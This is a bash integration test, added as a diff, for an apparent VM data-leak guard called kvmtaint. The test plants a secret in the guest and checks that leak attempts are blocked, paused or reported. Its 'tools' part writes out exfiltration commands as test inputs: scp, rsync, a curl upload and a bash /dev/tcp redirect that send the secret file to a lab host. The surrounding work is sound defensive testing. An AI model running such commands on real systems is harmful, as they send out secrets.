@@ -1,0 +1,406 @@
+# SPDX-License-Identifier: GPL-2.0
+# shellcheck shell=bash
+# In L1: what is to be stopped is stopped; proved by who would receive it. $parts names
+# the parts to run, $attempts how often each way is tried. Lines as tests/lab/run reads them.
+set -u
+parts=${parts:-report block tools pause timeout sendpage spread kill dirty protected swapped lockdown}
+attempts=${attempts:-250}
+# A guest up to 6.4 sends files with all it needs in registers: that pauses, and has its own test.
+case $LAB_KERNEL in
+5.10 | 6.1) setting="export WITHOUT=sendfile;" ;;
+*) setting= ;;
+esac
+records=$OUT/records
+ssh_options="-o BatchMode=yes -o LogLevel=ERROR -o ConnectTimeout=20"
+
+verdict() { # NAME STATUS WHY
+	if [ "$2" = 0 ]; then echo "ok $1"; else echo "not ok $1: $3"; fi
+}
+
+state() {
+	sed 's/.*) //; s/ .*//' "/proc/$VMM/stat"
+}
+
+start() { # PART OPTION...
+	records=$OUT/$1.jsonl
+	shift
+	# What the programs say comes by a virtio-serial port: that is a console, and a leak.
+	kvmtaint --vm "$VMM" --no-scan --secret lab=/srv/secret/ --allow lab=console "$@" >"$records" 2>"$records.stderr" &
+	kvmtaint=$!
+	for ((i = 0; i < 600; i++)); do
+		grep -q '"type":"start"' "$records" && return
+		kill -0 $kvmtaint 2>/dev/null || break
+		sleep 0.05
+	done
+	echo "not ok start: $(tail -1 "$records.stderr")"
+	exit 1
+}
+
+stop() {
+	kill -INT $kvmtaint
+	wait $kvmtaint
+	verdict "$1-ends" $? "$(tail -1 "$records.stderr")"
+}
+
+wait_for() { # WORDS [COUNT]: until so many records hold the words
+	for ((i = 0; i < 400; i++)); do
+		[ "$(grep -c "$1" "$records")" -lt "${2:-1}" ] || return 0
+		sleep 0.05
+	done
+	return 1
+}
+
+count() { # of records with these words
+	grep -c "$1" "$records"
+}
+
+# Whatever comes out of the guest's network card.
+watch_wire() {
+	mkdir -p /run/sink
+	python3 -c '
+import socket
+wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+wire.setsockopt(socket.SOL_SOCKET, 33, 32 << 20)  # SO_RCVBUFFORCE
+wire.bind(("tap0", 0))
+with open("/run/sink/wire", "ab", buffering=0) as store:
+    while True:
+        frame, (_, _, kind, _, _) = wire.recvfrom(65536)
+        if kind != socket.PACKET_OUTGOING:
+            store.write(frame)' &
+}
+
+empty_sink() {
+	for each in /run/sink/*; do
+		: >"$each"
+	done
+}
+
+arrived() { # bytes of the sink; any piece of the secret counts, wherever it is
+	python3 - "$@" <<'END'
+import glob, sys
+secret = open("/tmp/secret", "rb").read()
+pieces = {secret[at:at + 12] for at in range(0, len(secret) - 12)}
+found = 0
+for path in glob.glob("/run/sink/*") + sys.argv[1:]:
+    try:
+        data = open(path, "rb").read()
+    except FileNotFoundError:
+        continue
+    found += sum(data[at:at + 12] in pieces for at in range(len(data) - 11))
+print(found)
+END
+}
+
+datagrams() { # that came to this host's sockets
+	awk '/^Udp: [0-9]/ { print $2 }' /proc/net/snmp
+	awk '$1 == "Udp6InDatagrams" { print $2 }' /proc/net/snmp6
+}
+
+new_secret() {
+	head -c 3000 /dev/urandom | base64 -w0 >/tmp/secret
+	guest "mkdir -p /srv/secret && echo '$(cat /tmp/secret)' >/srv/secret/a"
+}
+
+# By the descriptors of kvmtaint; fails if one is there for verdicts alone. (That no other
+# can write to a process: tests/unit/test_verdict.c.)
+loaded_programs() {
+	python3 - $kvmtaint <<'END'
+import glob, json, re, subprocess, sys
+names = []
+for path in glob.glob(f"/proc/{sys.argv[1]}/fdinfo/*"):
+    match = re.search(r"^prog_id:\s+(\d+)", open(path).read(), re.M)
+    if match:
+        show = ["bpftool", "-j", "prog", "show", "id", match[1]]
+        names.append(json.loads(subprocess.run(show, stdout=subprocess.PIPE, check=True).stdout)["name"])
+bad = {"handle_block", "handle_pause", "handle_freeze", "handle_bar"} & set(names)
+print(f"{len(names)} programs are loaded, {len(bad)} of them for verdicts:", *bad)
+sys.exit(bool(bad) or len(names) < 10)
+END
+}
+
+# Without a verdict all of it arrives, or nothing below proves anything; and nothing that could
+# write to the guest is there.
+part_report() {
+	start report
+	empty_sink
+	for way in tcp4 udp4 tcp6 udp6 icmp4 packet; do
+		empty_sink
+		guest "$setting leaker /srv/secret/a $way 6" >>"$OUT/report.leaker"
+		sleep 1
+		[ "$(arrived)" -gt 0 ]; verdict "report-$way-arrives" $? "nothing came: $(tail -1 "$OUT/report.leaker")"
+	done
+	[ "$(count '"verdict":"reported"')" -ge 12 ]; verdict report-records $? "$(count reported) records"
+	loaded_programs >"$OUT/report.programs"
+	verdict report-loads-no-writer $? "$(cat "$OUT/report.programs")"
+	echo "# report: $(head -1 "$OUT/report.programs")"
+	stop report
+}
+
+# Two processes on two CPUs retry by every call; not one byte comes.
+part_block() {
+	local before after
+	# Should it pause instead, the job goes on, and fails.
+	start block --on-leak block --pause-timeout 5
+	! loaded_programs >"$OUT/block.programs"; verdict block-loads-the-writer $? "the test above sees none"
+	guest 'dmesg >/tmp/dmesg.before'
+	empty_sink
+	before=$(datagrams)
+	guest -t 900 "$setting for way in tcp4 udp4; do leaker /srv/secret/a \$way $attempts & done
+		wait
+		for way in tcp6 udp6; do leaker /srv/secret/a \$way $attempts & done
+		wait
+		for way in icmp4 packet; do leaker /srv/secret/a \$way 9; done" >"$OUT/block.leaker"
+	verdict block-attempts-end $? "the program in the guest did not end"
+	sleep 1
+	after=$(datagrams)
+	sed 's/^/# block: /' "$OUT/block.leaker"
+	grep '"type":"leak".*"verdict":"[pf]a' "$records" | head -3 | sed 's/^/# block: /'
+	[ "$(awk '{ n += $NF } END { print n }' "$OUT/block.leaker")" = $((4 * attempts + 18)) ]
+	verdict block-attempts $? "not all were made"
+	[ "$(arrived)" = 0 ] && [ ! -s /run/sink/tcp ] && [ ! -s /run/sink/udp ]
+	verdict block-nothing-arrives $? "$(arrived) pieces of the secret came; $(wc -c /run/sink/tcp /run/sink/udp 2>/dev/null | xargs)"
+	[ "$before" = "$after" ]; verdict block-no-empty-datagram $? "datagrams: $before, then $after"
+	! grep -qE ' [0-9]+ [0-9]+$' "$OUT/block.leaker"; verdict block-gives-an-error $? "$(grep -E ' [0-9]+ [0-9]+$' "$OUT/block.leaker" | head -2)"
+	[ "$(count '"verdict":"blocked"')" -ge $((4 * attempts + 18)) ] && [ "$(count '"verdict":"failed"')" = 0 ] && [ "$(count '"verdict":"paused"')" = 0 ]
+	verdict block-records $? "$(count blocked) blocked, $(count '"verdict":"failed"') failed, $(count '"verdict":"paused"') paused"
+	# Whoever holds nothing is not touched, on the same two CPUs.
+	guest 'echo clean >/tmp/clean; leaker /tmp/clean tcp4 6; leaker /tmp/clean udp6 6' >"$OUT/block.clean"
+	! grep -q E "$OUT/block.clean"; verdict block-leaves-others-alone $? "$(grep E "$OUT/block.clean" | head -1)"
+	guest 'dmesg | diff /tmp/dmesg.before -' >"$OUT/block.dmesg"
+	verdict block-guest-unharmed $? "$(head -3 "$OUT/block.dmesg")"
+	stop block
+}
+
+# Programs that people use end, and with an error; where the policy lets them they work.
+part_tools() {
+	start tools --on-leak block --allow 'lab=10.9.0.1:8080' --verbose
+	empty_sink
+	rm -rf /tmp/got.*
+	for tool in "scp $ssh_options /srv/secret/a root@10.9.0.1:/tmp/got.scp" \
+		"rsync -e 'ssh $ssh_options' /srv/secret/a root@10.9.0.1:/tmp/got.rsync" \
+		"curl -sS -g -m 60 -T /srv/secret/a http://[fd00:9::1]:8080/a" \
+		"bash -c 'cat /srv/secret/a >/dev/tcp/10.9.0.1/9000'"; do
+		guest -t 120 "$tool" >"$OUT/tool" 2>&1
+		status=$?
+		echo "# ${tool%% *}: status $status, $(tail -1 "$OUT/tool")"
+		[ $status != 0 ] && [ $status != 124 ]; verdict "tools-${tool%% *}-ends" $? "status $status"
+	done
+	sleep 1
+	[ "$(arrived /tmp/got.scp /tmp/got.rsync)" = 0 ]; verdict tools-nothing-arrives $? "$(arrived /tmp/got.scp /tmp/got.rsync) pieces came"
+	guest -t 60 "curl -sS -m 60 -H Expect: -o /dev/null -T /srv/secret/a http://10.9.0.1:8080/a" >"$OUT/tool" 2>&1
+	verdict tools-allowed-works $? "$(tail -1 "$OUT/tool")"
+	sleep 1
+	[ "$(arrived)" -gt 0 ]; verdict tools-allowed-arrives $? "nothing came"
+	grep -q '"type":"allowed".*"verdict":"allowed"' "$records"; verdict tools-allowed-record $? "no record of type allowed"
+	! grep '"type":"leak"' "$records" | grep -q '"address":"10.9.0.1","port":8080'; verdict tools-allowed-is-no-leak $? "a leak record to an allowed destination"
+	stop tools
+}
+
+send_in_guest() { # WAY [COUNT]: in the background
+	guest -t 120 "leaker /srv/secret/a $1 ${2:-1}" >"$OUT/pause.leaker" 2>&1 &
+	sender=$!
+}
+
+standstill() {
+	sed -n 's/.*"event":"paused".*"standstill_ns":\([0-9]*\).*/\1/p' "$records"
+}
+
+part_pause() {
+	start pause --on-leak pause
+	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1
+	[ $? = 27 ]; verdict resume-of-a-running-vm $? "$(cat "$OUT/resume")"
+
+	empty_sink
+	send_in_guest udp4/send
+	wait_for '"event":"paused"'; verdict pause-stands $? "no record"
+	[ "$(state)" = T ] && grep -q '"type":"leak".*"verdict":"paused"' "$records"; verdict pause-record $? "state $(state)"
+	kill -CONT "$VMM"
+	sleep 1
+	[ "$(state)" = T ] && [ "$(arrived)" = 0 ]; verdict pause-outlasts-sigcont $? "state $(state), $(arrived) pieces came"
+	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1; verdict pause-resume $? "$(cat "$OUT/resume")"
+	wait $sender
+	[ "$(cat "$OUT/pause.leaker")" = "udp4 send: EINVAL 1" ] && [ "$(arrived)" = 0 ]
+	verdict pause-resume-stops-it $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
+
+	send_in_guest tcp4/write
+	wait_for '"event":"paused"' 2
+	kvmtaint resume --vm "$VMM" --allow-once >"$OUT/resume" 2>&1; verdict pause-allow-once $? "$(cat "$OUT/resume")"
+	wait $sender
+	sleep 0.5
+	[ "$(cat "$OUT/pause.leaker")" = "tcp4 write: 600 1" ] && [ "$(arrived)" -gt 500 ]
+	verdict pause-allow-once-arrives $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
+
+	# Somebody else stops it meanwhile: it stays stopped.
+	empty_sink
+	send_in_guest udp4/send
+	wait_for '"event":"paused"' 3
+	kill -STOP "$VMM"
+	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1
+	sleep 1
+	[ "$(state)" = T ]; verdict pause-leaves-others-stops-alone $? "state $(state)"
+	kill -CONT "$VMM"
+	wait $sender
+	[ "$(state)" != T ] && [ "$(arrived)" = 0 ]; verdict pause-others-let-it-go $? "state $(state)"
+	grep '"type":"pause"' "$records" | sed 's/^.*"type":"pause"/# pause: /; s/"vm":{[^}]*},//'
+	echo "# from the hook to the standstill: $(standstill | xargs) ns"
+	stop pause
+}
+
+part_timeout() {
+	start timeout --on-leak pause --pause-timeout 2
+	empty_sink
+	send_in_guest udp6/send
+	wait_for '"event":"resumed".*"by":"timeout"'; verdict timeout-goes-on $? "no record"
+	wait $sender
+	grep -q EINVAL "$OUT/pause.leaker" && [ "$(arrived)" = 0 ]; verdict timeout-blocks $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
+	# And the end of the trace: with what it stood before stopped.
+	send_in_guest udp4/send
+	wait_for '"event":"paused"' 2
+	stop timeout
+	wait $sender
+	grep -q EINVAL "$OUT/pause.leaker" && [ "$(arrived)" = 0 ] && grep -q '"by":"end"' "$records"
+	verdict end-of-the-trace-blocks $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
+}
+
+# What a guest up to 6.4 sends by sendfile() cannot be stopped; the VM stands on.
+part_sendpage() {
+	if [ -z "$setting" ]; then
+		echo "# sendpage: this guest has none"
+		return
+	fi
+	start sendpage --on-leak block --pause-timeout 1
+	empty_sink
+	send_in_guest tcp4/sendfile
+	wait_for '"verdict":"paused","reason":"no_message"' && wait_for '"event":"paused"'
+	verdict sendpage-is-paused $? "$(grep '"leak"' "$records" | tail -1)"
+	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1
+	[ $? = 28 ]; verdict sendpage-is-not-resumed $? "$(cat "$OUT/resume")"
+	sleep 3
+	[ "$(state)" = T ] && [ "$(arrived)" = 0 ]; verdict sendpage-outlasts-the-timeout $? "state $(state)"
+	kvmtaint resume --vm "$VMM" --allow-once >"$OUT/resume" 2>&1
+	verdict sendpage-allow-once $? "$(cat "$OUT/resume")"
+	wait $sender
+	stop sendpage
+}
+
+part_spread() {
+	start spread --on-spread pause
+	guest -t 60 'cat /srv/secret/a >/dev/null; echo done' >"$OUT/spread" 2>&1 &
+	reader=$!
+	wait_for '"event":"paused"'; verdict spread-stands $? "no record"
+	[ "$(state)" = T ] && [ ! -s "$OUT/spread" ]; verdict spread-before-the-read $? "state $(state)"
+	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1; verdict spread-resume $? "$(cat "$OUT/resume")"
+	wait $reader
+	[ "$(cat "$OUT/spread")" = done ]; verdict spread-goes-on $? "$(cat "$OUT/spread")"
+	guest -t 60 'cat /srv/secret/a >/dev/null'; verdict spread-once-a-label $? "status $?"
+	[ "$(count '"event":"paused"')" = 1 ]; verdict spread-one-pause $? "$(count '"event":"paused"')"
+	stop spread
+}
+
+part_kill() {
+	local from
+	start kill --on-leak pause
+	empty_sink
+	send_in_guest udp4/send
+	wait_for '"event":"paused"'; verdict kill-stands $? "no record"
+	kill -9 $kvmtaint
+	from=$SECONDS
+	while [ "$(state)" = T ] && [ $((SECONDS - from)) -lt 20 ]; do
+		sleep 0.05
+	done
+	[ "$(state)" != T ]; verdict kill-vm-runs $? "state $(state)"
+	wait $sender
+	grep -q EINVAL "$OUT/pause.leaker" && [ "$(arrived)" = 0 ]; verdict kill-stops-the-send $? "$(cat "$OUT/pause.leaker"), $(arrived) pieces came"
+	wait $kvmtaint 2>/dev/null
+	guest 'echo alive' | grep -q alive; verdict kill-guest-lives $? "no answer"
+	kvmtaint release --vm "$VMM" >/dev/null; verdict kill-release $? "status"
+}
+
+# A write to guest memory would not migrate: then the VM stands instead.
+part_dirty() {
+	start dirty --on-leak block
+	empty_sink
+	l2 qmp migrate-set-parameters '{"max-bandwidth": 1000}' >/dev/null
+	l2 qmp migrate '{"uri": "exec:cat >/dev/null"}' >"$OUT/migrate"
+	sleep 1
+	send_in_guest udp4/send
+	wait_for '"verdict":"paused","reason":"dirty_log"'; verdict dirty-is-paused $? "$(grep '"leak"' "$records" | tail -1)"
+	wait_for '"event":"paused"'
+	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1
+	[ $? = 28 ] && [ "$(state)" = T ] && [ "$(arrived)" = 0 ]; verdict dirty-stands-on $? "$(cat "$OUT/resume")"
+	kvmtaint resume --vm "$VMM" --allow-once >/dev/null
+	wait $sender
+	l2 qmp migrate_cancel >/dev/null
+	sleep 2
+	send_in_guest udp4/send
+	wait $sender
+	grep -q EINVAL "$OUT/pause.leaker"; verdict dirty-is-over $? "$(cat "$OUT/pause.leaker")"
+	stop dirty
+}
+
+# The message itself is swapped out when the hook comes: the slow path blocks.
+part_swapped() {
+	modprobe zram
+	echo 1G >/sys/block/zram0/disksize
+	mkswap /dev/zram0 >/dev/null
+	swapon /dev/zram0
+	start swapped --on-leak block --pause-timeout 1
+	empty_sink
+	python3 "$IN/host.py" push-out "$VMM" 1 >/dev/null 2>&1 &
+	push=$!
+	guest -t 600 "$setting leaker /srv/secret/a tcp4 60 & leaker /srv/secret/a udp4 60; wait" >"$OUT/swapped.leaker"
+	verdict swapped-attempts-end $? "status"
+	kill -INT $push
+	wait $push
+	sleep 2
+	[ "$(arrived)" = 0 ]; verdict swapped-nothing-arrives $? "$(arrived) pieces came"
+	[ "$(state)" != T ] && [ "$(count '"verdict":"failed"')" = 0 ]; verdict swapped-none-failed $? "state $(state), $(count '"verdict":"failed"') failed"
+	stop swapped
+	echo "# swapped: $(count '"verdict":"blocked"') blocked, $(count '"type":"leak".*"verdict":"paused"') paused; $(grep -o '"retried":[0-9]*' "$records" | tail -1)"
+}
+
+# The host takes away the VMM's right to write its pages, again and again: a write that comes
+# just then cannot be made, and the VM stands instead.
+part_protected() {
+	start protected --on-leak block --pause-timeout 1
+	empty_sink
+	while echo 4 >"/proc/$VMM/clear_refs"; do :; done 2>/dev/null &
+	protect=$!
+	guest -t 900 "$setting leaker /srv/secret/a tcp4 120 & leaker /srv/secret/a udp4 120; wait" >"$OUT/protected.leaker"
+	verdict protected-attempts-end $? "status"
+	kill $protect
+	wait $protect 2>/dev/null
+	sleep 2
+	[ "$(arrived)" = 0 ]; verdict protected-nothing-arrives $? "$(arrived) pieces came"
+	[ "$(state)" != T ] && [ "$(count '"verdict":"failed"')" = 0 ]; verdict protected-none-failed $? "state $(state), $(count '"verdict":"failed"') failed"
+	stop protected
+	echo "# protected: $(count '"verdict":"blocked"') blocked, $(count '"reason":"not_writable"') paused because the page was not writable"
+}
+
+# A host that lets no BPF program write: the last part, there is no way back.
+part_lockdown() {
+	mount -t securityfs securityfs /sys/kernel/security 2>/dev/null
+	echo integrity >/sys/kernel/security/lockdown
+	kvmtaint --vm "$VMM" --secret lab=/srv/secret/ --on-leak block >"$OUT/lockdown" 2>&1
+	[ $? = 6 ] && grep -q lockdown "$OUT/lockdown"; verdict lockdown-refuses-block $? "$(tail -1 "$OUT/lockdown")"
+	start lockdown --on-leak pause
+	empty_sink
+	send_in_guest udp4/send
+	wait_for '"event":"paused"'
+	kvmtaint resume --vm "$VMM" >"$OUT/resume" 2>&1; verdict lockdown-pauses $? "$(cat "$OUT/resume")"
+	wait $sender
+	grep -q EINVAL "$OUT/pause.leaker" && [ "$(arrived)" = 0 ]; verdict lockdown-resume-stops-it $? "$(cat "$OUT/pause.leaker")"
+	stop lockdown
+	start lockdown-report
+	guest "leaker /srv/secret/a udp4/send 1" >/dev/null
+	wait_for '"verdict":"reported"'; verdict lockdown-reports $? "no record"
+	stop lockdown-report
+}
+
+watch_wire
+new_secret
+for part in $parts; do
+	"part_$part"
+done
+guest 'echo alive' | grep -q alive; verdict guest-lives $? "the guest does not answer"
+echo "ok whole"
